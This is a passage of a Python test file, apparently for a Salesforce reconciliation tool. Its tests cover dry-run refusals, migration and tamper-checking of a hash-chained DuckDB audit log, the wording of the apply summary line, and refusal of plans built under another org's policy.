    assert org.org.request_log[start:] == [] and set(org.org.tokens) <= tokens  # refused before logging in


def test_a_dry_run_lists_what_it_would_refuse_instead_of_naming_a_file_it_does_not_write(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    strict = policy_with(
        tmp_path / "strict",
        statuses={"Has_Replied__c": "pending_legal"},
        replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"},
    )
    r = cli("apply", plan_path, "--dry-run", "--policy", strict, env=sandbox_env(org))
    assert r.exit_code == 1, r.stdout + r.stderr
    assert "Not applied: refused 1, failed 0 (by reason: pending_legal 1). Exit status 1." in r.stdout, r.stdout
    assert f"  refused: CampaignMember {CM_B} Has_Replied__c: pending_legal" in r.stdout, r.stdout
    assert "exceptions" not in r.stdout and not list(plan_path.parent.glob("*.exceptions.*"))


def test_an_audit_written_before_the_chain_is_chained_once_when_carried_over(tmp_path):
    """A DuckDB file from before issue 10 (audit rows without hashes, no plans table) is chained on first use."""
    old = tmp_path / "old.duckdb"
    con = duckdb.connect(str(old))
    con.execute("create sequence audit_seq start with 1")
    con.execute(
        "create table audit (seq bigint default nextval('audit_seq'), run_id varchar, plan_id varchar, "
        "approver varchar, object varchar, record_id varchar, field varchar, before varchar, after varchar, "
        'result varchar, error_code varchar, message varchar, "at" timestamptz)'
    )
    con.execute(
        'insert into audit (run_id, plan_id, approver, object, record_id, field, before, after, result, "at") '
        "values ('r1', 'sha256:1', 'Ana', 'Lead', 'x', 'Industry', 'null', '\"Banking\"', 'applied', "
        "'2026-11-27 06:00:00+00')"
    )
    con.close()
    r = cli("audit", "--db", old, "--verify")
    assert r.exit_code == 1 and "signed head is missing" in r.stderr  # verify never repairs
    audit.open_audit(old).close()  # first use by a new version
    r = cli("audit", "--db", old, "--verify")
    assert r.exit_code == 0 and "1 rows" in r.stdout


def test_an_audit_written_before_bulk_job_ids_verifies_as_it_is_and_chains_on_with_them(tmp_path):
    """A chained file from before the audit's job_id column: verify reads it as it is; the first apply adds the
    column, old rows keep their hashes, and a new row's job id is covered by the chain (editing it is caught)."""
    old = tmp_path / "old.duckdb"
    con = audit.open_audit(old)
    audit.record(
        con,
        "r1",
        "sha256:1",
        "Ana",
        [
            {
                "object": "Lead",
                "record_id": "x",
                "field": "Industry",
                "before": None,
                "after": "Banking",
                "result": "pending",
            }
        ],
    )
    con.execute("alter table audit drop column job_id")  # as that version wrote it
    con.close()
    r = cli("audit", "--db", old, "--verify")
    assert r.exit_code == 0 and "1 rows" in r.stdout, r.stderr
    con = duckdb.connect(str(old), read_only=True)  # as a dry run reads it: no job can have been recorded in it
    assert audit.submitted_jobs(con, "sha256:1") == {} and audit.pending_without_outcome(con, "sha256:1")
    con.close()
    con = audit.open_audit(old)
    row = {"object": "Lead", "record_id": "x", "field": "Industry", "before": None, "after": "Banking"}
    audit.record(con, "r1", "sha256:1", "Ana", [{**row, "result": "submitted", "job_id": "750000000000001AAA"}])
    assert audit.submitted_jobs(con, "sha256:1") == {("Lead", "750000000000001AAA"): {("Lead", "x", "Industry")}}
    con.close()
    r = cli("audit", "--db", old, "--verify")
    assert r.exit_code == 0 and "2 rows" in r.stdout, r.stderr
    con = duckdb.connect(str(old))
    con.execute("update audit set job_id = '750000000000002AAA' where job_id is not null")
    con.close()
    r = cli("audit", "--db", old, "--verify")
    assert r.exit_code == 1 and "seq 2 was changed after it was written" in r.stderr, r.stderr


def test_the_not_applied_line_reads_as_readme_says_refused_then_failed():
    """README, Approval and apply, step 8: `Not applied: refused N, failed M (by reason: …)` — both counts, in that
    order, whichever kinds occurred."""
    from reconcile.apply.apply import ApplyResult, summary_lines

    def outcome(result, code):
        return {"result": result, "error_code": code, "object": "Lead", "record_id": "00Q", "field": "Industry"}

    both = ApplyResult(
        "r", "p", [outcome("failed", "REQUIRED_FIELD_MISSING")] * 2 + [outcome("refused", "pending_legal")] * 3
    )
    only_failed = ApplyResult("r", "p", [outcome("failed", "UNABLE_TO_LOCK_ROW")])
    assert (
        "Not applied: refused 3, failed 2 (by reason: REQUIRED_FIELD_MISSING 2, pending_legal 3). Exit status 1."
        in summary_lines(both)
    )
    assert any(
        line.startswith("Not applied: refused 0, failed 1 (by reason: UNABLE_TO_LOCK_ROW 1)")
        for line in summary_lines(only_failed)
    )


def test_a_plan_built_with_one_orgs_policy_is_refused_under_another_orgs(org, plans, tmp_path):
    """SPEC §8: policy per org. The ICARE policy's allowlist and approvers are not the ones this plan was gated and
    approved under; nothing is read from or written to Salesforce."""
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    icare = policy_with(tmp_path / "icare", replace={'name = "default"': 'name = "ICARE"'})
    start = len(org.org.request_log)
    with pytest.raises(
        ApplyError,
        match=r"built with the policy of org 'default', but this apply reads the policy of "
        r"org 'ICARE'\. Nothing was read or written\. Apply it with its org's policy \(--org default\)",
    ):
        do_apply(org, plan_path, policy=icare)
    assert len(org.org.request_log) == start and not org.org.field_history
